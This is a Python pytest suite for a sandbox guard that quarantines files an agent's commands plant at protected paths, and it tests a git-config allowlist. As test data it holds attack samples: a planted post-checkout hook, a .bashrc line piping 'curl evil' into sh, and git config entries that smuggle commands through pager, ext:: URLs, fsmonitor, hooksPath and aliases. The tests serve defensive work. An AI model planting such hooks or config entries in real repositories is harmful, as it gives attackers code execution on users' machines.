"""The protected-path guard on a real filesystem: baselines, quarantine, crash recovery."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import corral
from corral_local_sandbox import DEFAULT_PROTECTED_PATHS
from corral_local_sandbox._gitconfig import git_config_is_safe
from corral_local_sandbox._protect import PathGuard

HAS_GIT = shutil.which("git") is not None
GIT_INIT_CONFIG = (
    b"[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"
    b"\tlogallrefupdates = true\n"
)


def _guard(tmp: Path) -> tuple[PathGuard, Path, Path]:
    root, state = tmp / "ws", tmp / "state"
    root.mkdir(exist_ok=True)
    state.mkdir(exist_ok=True)
    guard = PathGuard(
        str(root),
        str(state),
        DEFAULT_PROTECTED_PATHS,
        validators={".git/config": git_config_is_safe},
    )
    assert guard.start() == []
    return guard, root, state


def _command(guard: PathGuard, action: Callable[[], object]) -> list[str]:
    """Bracket ``action`` (standing in for a sandboxed command) like GuardedShell does."""
    guard.begin()
    action()
    return guard.end(guard.changed())


def _quarantined(state: Path) -> list[str]:
    qdir = state / "protect" / "quarantine"
    return sorted(p.name.split("-", 2)[2] for p in qdir.iterdir()) if qdir.exists() else []


def _plant_hook(root: Path) -> None:
    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True, exist_ok=True)
    hook = hooks / "post-checkout"
    hook.write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    hook.chmod(0o755)


def test_absent_paths_leave_no_placeholders(tmp_path: Path) -> None:
    guard, root, _ = _guard(tmp_path)
    guard.begin()
    assert guard.trusted() == []
    assert guard.end(guard.changed()) == []
    assert os.listdir(root) == []


def test_existing_paths_are_trusted(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n\tfsmonitor = host-tool\n")
    (root / ".bashrc").write_text("alias ll='ls -l'\n")
    guard, _, _ = _guard(tmp_path)
    guard.begin()
    assert guard.trusted() == [".bashrc", ".git/config", ".git/hooks"]
    guard.end([])


def test_planted_files_are_quarantined(tmp_path: Path) -> None:
    guard, root, state = _guard(tmp_path)

    def attack() -> None:
        _plant_hook(root)
        (root / ".bashrc").write_text("curl evil | sh\n")
        (root / ".vscode").mkdir()
        (root / ".vscode" / "tasks.json").write_text("{}")
        (root / ".claude").symlink_to(os.path.expanduser("~"))

    notes = _command(guard, attack)
    assert len(notes) == 4
    assert all("moved out of the workspace" in n for n in notes)
    assert sorted(os.listdir(root)) == [".git"]
    assert os.listdir(root / ".git") == []
    assert _quarantined(state) == [".bashrc", ".claude", ".git_hooks", ".vscode"]
    assert os.path.isdir(os.path.expanduser("~"))  # the symlink moved, not its target


def test_redirecting_git_file_and_commondir_are_quarantined(tmp_path: Path) -> None:
    guard, root, state = _guard(tmp_path)
    notes = _command(guard, lambda: (root / ".git").write_text("gitdir: evil\n"))
    assert notes
    assert not (root / ".git").exists()
    (root / ".git").mkdir()
    notes = _command(guard, lambda: (root / ".git" / "commondir").write_text("../evil\n"))
    assert notes
    assert _quarantined(state) == [".git", ".git_commondir"]


def test_read_only_planted_directory_is_still_removed(tmp_path: Path) -> None:
    guard, root, _ = _guard(tmp_path)

    def attack() -> None:
        _plant_hook(root)
        (root / ".git" / "hooks").chmod(0o500)
        (root / ".git").chmod(0o500)

    try:
        assert _command(guard, attack)
        assert not (root / ".git" / "hooks").exists()
    finally:
        (root / ".git").chmod(0o700)


def test_rename_away_and_back_is_caught(tmp_path: Path) -> None:
    guard, root, _ = _guard(tmp_path)
    (root / ".git").mkdir()

    def attack() -> None:
        os.rename(root / ".git", root / "elsewhere")
        _plant_hook(root / "elsewhere" / "..")
        shutil.rmtree(root / ".git")
        (root / "elsewhere" / "hooks").mkdir()
        (root / "elsewhere" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
        os.rename(root / "elsewhere", root / ".git")

    assert _command(guard, attack)
    assert os.listdir(root / ".git") == []


@pytest.mark.skipif(not HAS_GIT, reason="git is not installed")
def test_git_config_from_the_sandbox_is_kept_when_harmless(tmp_path: Path) -> None:
    guard, root, state = _guard(tmp_path)
    config = root / ".git" / "config"

    def git_init() -> None:
        (root / ".git").mkdir()
        config.write_bytes(GIT_INIT_CONFIG + b"[user]\n\temail = a@b.c\n")

    assert _command(guard, git_init) == []
    guard.begin()
    assert guard.trusted() == []  # kept, but stays writable for git config
    guard.end([])
    notes = _command(guard, lambda: config.write_bytes(GIT_INIT_CONFIG + b"\thooksPath = x\n"))
    assert notes
    assert not config.exists()
    assert _quarantined(state) == [".git_config"]


def test_host_changes_between_commands_become_trusted(tmp_path: Path) -> None:
    guard, root, _ = _guard(tmp_path)
    assert _command(guard, lambda: None) == []
    (root / ".bashrc").write_text("# the user's own\n")
    guard.begin()
    assert guard.trusted() == [".bashrc"]
    assert guard.end(guard.changed()) == []
    assert (root / ".bashrc").exists()


def test_a_crash_mid_command_is_caught_at_the_next_start(tmp_path: Path) -> None:
    guard, root, state = _guard(tmp_path)
    guard.begin()
    _plant_hook(root)  # ...and the agent process dies before the check
    again = PathGuard(str(root), str(state), DEFAULT_PROTECTED_PATHS)
    notes = again.start()
    assert notes
    assert not (root / ".git" / "hooks").exists()
    assert not (state / "protect" / "inflight").exists()


def test_a_host_symlink_at_a_protected_path_refuses_commands(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    (root / ".vscode").symlink_to(tmp_path)
    guard, _, _ = _guard(tmp_path)
    with pytest.raises(corral.OperationError) as info:
        guard.begin()
    assert info.value.code == "policy_denied"
    assert str(tmp_path) not in info.value.message


_TARGETS = [p.path for p in DEFAULT_PROTECTED_PATHS] + [".git", ".git/hooks/pre-commit"]


@settings(max_examples=50, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(_TARGETS), st.sampled_from(["file", "dir", "link"]))))
def test_nothing_planted_survives_a_command(
    tmp_path_factory: pytest.TempPathFactory, plants: list[tuple[str, str]]
) -> None:
    guard, root, _ = _guard(tmp_path_factory.mktemp("prop"))

    def attack() -> None:
        for rel, kind in plants:
            path = root / rel
            try:
                path.parent.mkdir(parents=True, exist_ok=True)
                if kind == "file":
                    path.write_text("evil\n")
                elif kind == "dir":
                    path.mkdir()
                else:
                    path.symlink_to("/")
            except OSError:
                continue

    _command(guard, attack)
    for entry in DEFAULT_PROTECTED_PATHS:
        parts = entry.path.split("/")
        for depth in range(1, len(parts) + 1):
            path = root.joinpath(*parts[:depth])
            if not os.path.lexists(path):
                break
            # Only plain directories may remain above a protected location.
            assert depth < len(parts), path
            assert path.is_dir(), path
            assert not path.is_symlink(), path


@pytest.mark.skipif(not HAS_GIT, reason="git is not installed")
@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (GIT_INIT_CONFIG, True),
        (GIT_INIT_CONFIG + b'[remote "origin"]\n\turl = https://example.com/r.git\n', True),
        (
            GIT_INIT_CONFIG + b'[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n',
            True,
        ),
        (b"[core]\n\tfsmonitor = /tmp/x\n", False),
        (b"[core]\n\thooksPath = /tmp\n", False),
        (b"[core]\n\tpager = sh -c evil\n", False),
        (b"[include]\n\tpath = /tmp/evil\n", False),
        (b'[filter "x"]\n\tclean = evil\n', False),
        (b"[alias]\n\tst = !evil\n", False),
        (b'[remote "o"]\n\turl = ext::sh -c evil\n', False),
        (b'[remote "o"]\n\turl = /tmp/local-repo\n', False),
        (b'[remote "o"]\n\tuploadpack = evil\n', False),
        (b"[extensions]\n\tworktreeConfig = true\n", False),
        (b"[core\n", False),
    ],
)
def test_git_config_allowlist(tmp_path: Path, text: bytes, safe: bool) -> None:
    assert git_config_is_safe(text, str(tmp_path)) is safe
    assert os.listdir(tmp_path) == []
